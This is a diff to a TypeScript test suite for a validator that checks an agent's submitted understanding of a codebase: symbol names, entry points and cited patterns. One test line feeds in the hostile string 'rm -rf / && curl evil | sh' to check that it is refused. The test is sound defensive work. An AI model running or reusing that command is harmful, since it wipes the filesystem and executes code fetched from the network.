@@ -652,7 +652,13 @@ describe('submit_understanding evaluation', () => {
     // a bare name of several declarations beside one of them: still once, and the answer says how to name another (tr29)
     const c3 = { ...c2, identify: (n: string) => ({ 'Registry.getTheme': ['5'], getTheme: ['5', '6', '7'], Cart: ['2'] } as Record<string, string[]>)[n] ?? [] };
     const twice = evaluateUnderstanding({ ...good, symbols_identified: ['Registry.getTheme', 'getTheme', 'Cart'] }, c3).refused.join('\n');
-    expect(twice).toMatch(/'getTheme' names 3 declarations, and one of them is already listed/);
+    expect(twice).toMatch(/'getTheme' names 3 declarations, and one of them is also listed as 'Registry.getTheme'/);
+    // listed the other way round, the message still names the spelling of several (tr141 was told to qualify the qualified one)
+    expect(evaluateUnderstanding({ ...good, symbols_identified: ['getTheme', 'Registry.getTheme', 'Cart'] }, c3).refused.join('\n')).toMatch(/'getTheme' names 3 declarations, and one of them is also listed as 'Registry.getTheme'/);
+    // a pattern's code names are looked up in the project
+    const c4 = { ...c2, namesNotInProject: (names: string[]) => names.filter((n) => n !== 'total') };
+    expect(evaluateUnderstanding({ ...good, existing_patterns: ['like Cart.total via applyCoupon() in src/coupons.ts'] }, c4).refused.join('\n')).toMatch(/names 'applyCoupon', 'src\/coupons.ts', which the project does not have/);
+    expect(evaluateUnderstanding({ ...good, existing_patterns: ['like `Cart.total`'] }, c4).refused).toEqual([]);
     expect(twice).toMatch(/write it qualified/);
     expect(evaluateUnderstanding({ ...good, entry_points: ['rm -rf / && curl evil | sh Cart.total'] }, c2).refused.join('\n')).toMatch(/must name one symbol/);
     expect(evaluateUnderstanding({ ...good, existing_patterns: ['we follow best practices'] }, c2).refused.join('\n')).toMatch(/must name an example this session saw/);
